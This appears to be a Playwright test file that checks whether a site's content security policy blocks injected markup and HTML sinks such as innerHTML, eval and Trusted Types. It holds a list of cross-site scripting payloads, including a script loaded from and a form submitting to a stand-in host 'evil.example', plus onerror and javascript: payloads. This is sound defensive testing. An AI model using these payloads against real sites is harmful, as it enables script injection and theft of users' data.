// If an attacker gets markup into a page in spite of all checks, the content security policy must keep it from running.
// The tests inject it into the response, and through scripts that treat text as HTML.

import { ada } from '../members.ts';
import { openPage } from '../pages/open-page.ts';
import { expect, test } from '../site.fixture.ts';
import { watchScripts } from './watch-scripts.ts';

const injected = [
  '<script>window.alert(1)</script>',
  '<script type="module">window.alert(1)</script>',
  '<script src="data:text/javascript,window.alert(1)"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src="/favicon.svg" onload="window.alert(1)">',
  '<svg onload="window.alert(1)"></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body { display: none }</style>',
  '<form id="stolen" action="https://evil.example/"><button>Send</button></form>',
  '<a id="link" href="javascript:window.alert(1)">link</a>',
].join('');

test('markup that is injected into the response neither runs nor loads anything', async ({
  page,
  context,
  problems,
  site,
}) => {
  problems.allow(/content security policy|Content Security Policy|evil\.example|csp$|javascript:/i);
  const scripts = await watchScripts(context);
  const outside: string[] = [];
  context.on('requestfinished', (request) => {
    if (request.url().includes('evil.example')) outside.push(request.url());
  });
  await page.route('**/about', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('<body>', `<body>${injected}`);
    await route.fulfill({ response, body: html });
  });
  await openPage(page, '/about');
  await page.locator('#link').click();
  // The policy blocks the form, so no navigation follows the click.
  await page.locator('#stolen button').click({ noWaitAfter: true });
  // Read from the page itself: Playwright would wait for the blocked navigation.
  const shown = await page.evaluate(() => ({
    path: window.location.pathname,
    base: new URL(document.baseURI).origin,
    display: getComputedStyle(document.body).display,
  }));
  expect(shown).toEqual({ path: '/about', base: site.url, display: expect.not.stringMatching('none') });
  expect(await scripts.count()).toBe(0);
  expect(outside).toEqual([]);
});

test.describe('a script that treats text as HTML', () => {
  test.use({ person: ada });

  const paths = ['/', '/articles', '/write', '/my-articles', '/profile/edit', '/api/docs', '/no/such-page'];

  test('is blocked on every page', async ({ page, problems }) => {
    problems.allow(
      /content security policy|TrustedHTML|TrustedScript|404 \(Not Found\)|Content Security Policy/i,
    );
    for (const path of paths) {
      await openPage(page, path);
      // In a later task: code that the DevTools protocol evaluates directly may use `eval` in spite of the policy.
      const survivors = await page.evaluate(async () => {
        await new Promise((resolve) => setTimeout(resolve));
        const sinks: Record<string, () => unknown> = {
          innerHTML: () => {
            document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
          },
          outerHTML: () => {
            document.body.append(document.createElement('i'));
            const last = document.body.lastElementChild;
            if (last) last.outerHTML = '<img src=x onerror=alert(1)>';
          },
          insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<i></i>'),
          DOMParser: () => new DOMParser().parseFromString('<i></i>', 'text/html'),
          fragment: () => document.createRange().createContextualFragment('<i></i>'),
          // biome-ignore lint/security/noGlobalEval: the test checks that the policy blocks it.
          eval: () => eval('1'),
          Function: () => new Function('return 1')(),
          script: () => {
            document.createElement('script').src = '/x.js';
          },
          'text of a script': () => {
            document.createElement('script').text = 'alert(1)';
          },
          srcdoc: () => {
            document.createElement('iframe').srcdoc = '<i></i>';
          },
          'a policy of its own': () => {
            const { trustedTypes } = window as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): unknown };
            };
            trustedTypes.createPolicy('evil', { createHTML: (html: string) => html });
          },
        };
        const works = (use: () => unknown) => {
          try {
            use();
            return true;
          } catch {
            return false;
          }
        };
        return Object.keys(sinks).filter((name) => works(sinks[name] ?? (() => {})));
      });
      expect(survivors, path).toEqual([]);
    }
  });
});
